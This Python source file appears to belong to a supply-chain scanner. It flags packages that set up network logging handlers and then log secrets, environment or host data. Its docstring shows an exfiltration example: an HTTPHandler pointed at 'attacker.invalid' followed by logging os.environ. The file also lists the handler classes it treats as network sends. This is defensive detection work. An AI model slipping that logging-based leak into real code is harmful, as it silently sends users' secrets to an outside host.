"""Log records a handler made here sends over the network (ADR 0073).

``logging.handlers.HTTPHandler('attacker.invalid', '/x')`` (or a socket, datagram or mail
handler), added to a logger, sends every record that logger emits to that host: a
``log.warning('%s', dict(os.environ))`` after it is a network send of the environment, with
no network call written: a record logged after one was made, carrying secret, environment or
host data, is a send of that data to the host the handler names. Making the handler sends
nothing, as making a client or a socket does not (dill makes a ``SocketHandler`` to
localhost on import as a sample of a type: ADR 0073's first form held it).
``logging.config.dictConfig`` of a literal naming one of these classes makes one too.

Pure. What it deliberately does not do: match a record to the logger its handler was added
to (any record logged after a network handler was made counts), read ``fileConfig`` files,
or judge a handler that sends to the local machine's syslog (a syslog handler given a
public host written in the code is a network one, ADR 0110).
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING

from airlock.imports.packages import envurl, flowtypes, hostsent, remotes
from airlock.imports.packages.sinks import ENV, HOSTINFO, SECRET

if TYPE_CHECKING:
    from airlock.imports.packages.flow import Interpreter
    from airlock.imports.packages.flowtypes import Val, When

NETWORK_HANDLERS = frozenset({
    "logging.handlers.HTTPHandler", "logging.handlers.SocketHandler",
    "logging.handlers.DatagramHandler", "logging.handlers.SMTPHandler",
})  # fmt: skip
# A handler that sends to the local machine's syslog unless given another host's address
# (``SysLogHandler(address=('203.0.113.5', 514))``; ADR 0110): a network handler only then.
SYSLOG_HANDLERS = frozenset({"logging.handlers.SysLogHandler"})
LOG_METHODS = frozenset({
    "debug", "info", "warning", "warn", "error", "exception", "critical", "fatal", "log",
})  # fmt: skip
CONFIGURERS = frozenset({"logging.config.dictConfig"})
SENT = frozenset({SECRET, ENV, HOSTINFO, envurl.LED})  # what a record sent away gives away
MAX_CONFIG_NODES = 4096  # nodes of a configuration literal looked into


def configured(interp: Interpreter, node: ast.Call, env: dict[str, Val], when: When) -> None:
    """``dictConfig({... 'class': 'logging.handlers.HTTPHandler', 'host': h ...})``: a
    handler made, its host the configuration's folded text."""
    if not node.args:
        return
    texts: list[str] = []
    for seen, part in enumerate(ast.walk(node.args[0])):
        if seen > MAX_CONFIG_NODES:
            return
        if isinstance(part, (ast.Constant, ast.BinOp, ast.JoinedStr)):
            const = interp.expr(part, env, flowtypes.When.LATER).const
            if isinstance(const, str):
                texts.append(const)
    if any(t in NETWORK_HANDLERS for t in texts):
        text = " ".join(t for t in texts if t not in NETWORK_HANDLERS)[:4096]
        made(interp, text)


def made(interp: Interpreter, text: str, ref: str = "") -> None:
    """A network log handler made (to the host ``text`` names): later records go there. A
    syslog handler is one only when its address is a public host written in the code."""
    if ref in SYSLOG_HANDLERS:
        words = text.split()
        if not words or not hostsent.PUBLIC_HOST.fullmatch(remotes.address_host(words[0])):
            return
    interp.log_host = text or "?"


def logged(
    interp: Interpreter,
    node: ast.Call,
    args: list[Val],
    kwargs: dict[str | None, Val],
    when: When,
) -> None:
    """``log.warning('%s', secret)`` after a network handler was made: the record is sent."""
    labels = frozenset().union(*(a.labels for a in [*args, *kwargs.values()]))
    if labels & SENT:
        event = flowtypes.Event("network", "logging.handlers.emit", node.lineno, when,
                           interp.log_host, labels)  # fmt: skip
        interp.trace.events.append(event)


def is_log_call(node: ast.Call) -> bool:
    """``logger.warning(...)``, ``logging.error(...)``: a record logged."""
    return isinstance(node.func, ast.Attribute) and node.func.attr in LOG_METHODS
